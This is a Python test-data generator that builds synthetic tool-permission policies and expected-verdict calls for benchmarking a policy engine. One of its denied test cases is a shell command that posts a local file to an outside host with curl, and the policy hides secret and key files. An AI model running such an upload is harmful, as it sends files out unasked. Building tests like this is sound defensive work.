"""Policies of 10 to 5,000 rules for bench_decision, as data that each engine gets in its own words.

Most rules belong to five tools, as in the files of a team that grants by account, program, folder
and host; the largest tool has two fifths of all rules. One rule in ten denies, one in twenty asks.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from enum import StrEnum
from itertools import count, islice

from safeconduct.call import Json


class Form(StrEnum):
    """How one argument is tested."""

    WORDS = "argv"  # begins with these words; whatever follows
    ONE_OF = "in"
    UNDER = "under"  # a path in this folder of the workspace
    NAMED = "named"  # a path whose last component is this
    KIND = "kind"  # folder and suffix: a path directly in the folder
    URL = "url"  # begins with this
    RANGE = "range"


@dataclass(frozen=True, slots=True, kw_only=True)
class Test:
    """One argument and what it may be."""

    argument: str
    form: Form
    values: tuple[str, ...]


@dataclass(frozen=True, slots=True, kw_only=True)
class Item:
    """One rule, in no engine's words."""

    effect: str
    tool: str
    tests: tuple[Test, ...]
    profile: str | None = None


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """One call and the verdict that every engine must give."""

    tool: str
    arguments: Mapping[str, Json]
    verdict: str


# The share of every twenty rules: (tool, effect).
_ORDER = (
    *("crm.read", "shell.run", "fs.read", "http.get", "crm.read", "fs.write", "shell.run"),
    *("crm.read", "crm.read", "shell.run", "server", "crm.read", "http.get", "fs.read"),
    *("crm.read", "shell.run", "crm.read", "crm.read", "shell.run", "fs.read"),
)
_SUBCOMMANDS = ("build", "test", "lint", "status", "plan", "show", "list", "diff")
_HEAD = """version: 1
profiles:
  base: {read: ["$WS"], hide: ["**/.env", "**/*.pem"], limits: {wall: 60s}}
  build: {like: base, write: ["$WS/out"], limits: {wall: 10m, memory: 2GiB}}
tools:
"""


def items(size: int) -> tuple[Item, ...]:
    """Return ``size`` rules; the first ones of a larger set are those of a smaller one."""
    return tuple(islice(_endless(), size))


def _endless() -> Iterator[Item]:
    seen: dict[str, int] = {}
    for number in count():
        tool = _ORDER[number % len(_ORDER)]
        at = seen[tool] = seen.get(tool, -1) + 1
        effect = "deny" if at % 10 == 2 else "ask" if at % 20 == 1 else "allow"
        yield _MAKERS[tool](at, effect)


def _shell(at: int, effect: str) -> Item:
    words = (f"tool{at // 8}", _SUBCOMMANDS[at % 8])
    test = Test(argument="argv", form=Form.WORDS, values=words)
    profile = "build" if at % 2 and effect != "deny" else None
    return Item(effect=effect, tool="shell.run", tests=(test,), profile=profile)


def _crm(at: int, effect: str) -> Item:
    accounts = tuple(f"account-{at}-{letter}" for letter in "abc"[: 1 + at % 3])
    tests = [Test(argument="account", form=Form.ONE_OF, values=accounts)]
    if at % 4 == 3:
        tests.append(Test(argument="rows", form=Form.RANGE, values=("1", "500")))
    return Item(effect=effect, tool="crm.read", tests=tuple(tests))


def _read(at: int, effect: str) -> Item:
    test = Test(argument="path", form=Form.UNDER, values=(f"package{at}/src",))
    if effect == "deny":
        test = Test(argument="path", form=Form.NAMED, values=(f"secret{at}.key",))
    elif at % 4 == 3:
        test = Test(argument="path", form=Form.KIND, values=(f"package{at}/tests", ".py"))
    return Item(effect=effect, tool="fs.read", tests=(test,))


def _write(at: int, effect: str) -> Item:
    test = Test(argument="path", form=Form.UNDER, values=(f"package{at}/out",))
    return Item(effect=effect, tool="fs.write", tests=(test,))


def _get(at: int, effect: str) -> Item:
    # Many paths of few hosts, as APIs are.
    prefix = f"https://api{at // 16}.example.org/v1/resource{at % 16}/"
    test = Test(argument="url", form=Form.URL, values=(prefix,))
    return Item(effect=effect, tool="http.get", tests=(test,))


def _server(at: int, effect: str) -> Item:
    test = Test(argument="mode", form=Form.ONE_OF, values=("summary", "full"))
    return Item(effect=effect, tool=f"server{at % 7}.tool{at}", tests=(test,))


_MAKERS = {
    "shell.run": _shell,
    "crm.read": _crm,
    "fs.read": _read,
    "fs.write": _write,
    "http.get": _get,
    "server": _server,
}


def to_policy(rules: Sequence[Item]) -> bytes:
    """Write the rules in our language."""
    by_tool: dict[str, list[Item]] = {}
    for rule in rules:
        by_tool.setdefault(rule.tool, []).append(rule)
    lines = [_HEAD]
    for tool, found in by_tool.items():
        lines.append(f"  {tool}:\n")
        lines += [f"    - {_written(rule)}\n" for rule in found]
    return "".join(lines).encode()


def _written(rule: Item) -> str:
    tests = ", ".join(f"{test.argument}: {_matcher(test)}" for test in rule.tests)
    profile = f", profile: {rule.profile}" if rule.profile else ""
    return f"{{{rule.effect}: {{{tests}}}{profile}}}"


def _matcher(test: Test) -> str:
    first = test.values[0]
    match test.form:
        case Form.WORDS:
            return f"{{argv: [{', '.join(test.values)}, ...]}}"
        case Form.ONE_OF:
            return f"[{', '.join(test.values)}]"
        case Form.UNDER:
            return f'{{path: ["$WS/{first}/**"]}}'
        case Form.NAMED:
            return f'{{path: ["**/{first}"]}}'
        case Form.KIND:
            return f'{{path: ["$WS/{first}/*{test.values[1]}"]}}'
        case Form.URL:
            return f"{{url: [{json.dumps(first + '**')}]}}"
        case Form.RANGE:
            return f"{{range: [{', '.join(test.values)}]}}"


def cases(rules: Sequence[Item], tools: Sequence[str]) -> tuple[Case, ...]:
    """Return ten calls of these tools: six allowed, three denied (one by a rule), one asked about.

    The rules that allow them are the first ones of a tool, the last ones and some between. With
    every number of rules the calls are of the same tools in the same order.
    """
    met = {(tool, effect): _met(rules, tool, effect) for tool in tools for effect in _EFFECTS}
    each = 6 // len(tools)
    allowed = [case for tool in tools for case in _spread(met[tool, "allow"], each)]
    missing = [_missing(tools[-1 - at % len(tools)]) for at in range(3)]
    denied = [*met[tools[0], "deny"][-1:], *missing][:3]
    asked = (met[tools[0], "ask"] or allowed)[-1:]
    return (*allowed, *denied, *asked)


_EFFECTS = ("allow", "deny", "ask")


def _met(rules: Sequence[Item], tool: str, effect: str) -> list[Case]:
    found = (rule for rule in rules if rule.tool == tool and rule.effect == effect)
    return [_meeting(rule, effect) for rule in found]


def _spread(found: Sequence[Case], most: int) -> list[Case]:
    return [found[round(at * (len(found) - 1) / max(most - 1, 1))] for at in range(most)]


def _meeting(rule: Item, verdict: str) -> Case:
    arguments: dict[str, Json] = {}
    for test in rule.tests:
        first = test.values[0]
        match test.form:
            case Form.WORDS:
                arguments[test.argument] = [*test.values, "--verbose", "src"]
            case Form.ONE_OF:
                arguments[test.argument] = test.values[-1]
            case Form.UNDER:
                arguments[test.argument] = f"{first}/main.py"
            case Form.NAMED:
                arguments[test.argument] = f"deep/{first}"
            case Form.KIND:
                arguments[test.argument] = f"{first}/test_main{test.values[1]}"
            case Form.URL:
                arguments[test.argument] = f"{first}items?page=2"
            case Form.RANGE:
                arguments[test.argument] = 50
    if rule.tool == "fs.write":
        arguments["content"] = "text"
    return Case(tool=rule.tool, arguments=arguments, verdict=verdict)


def _missing(tool: str) -> Case:
    """Return a call of the tool that no rule grants."""
    arguments: dict[str, dict[str, Json]] = {
        "shell.run": {"argv": ["curl", "-d", "@file", "https://example.net/"]},
        "crm.read": {"account": "account-of-another"},
        "http.get": {"url": "https://example.net/upload"},
        "fs.read": {"path": "other/notes.txt"},
    }
    return Case(tool=tool, arguments=arguments[tool], verdict="deny")
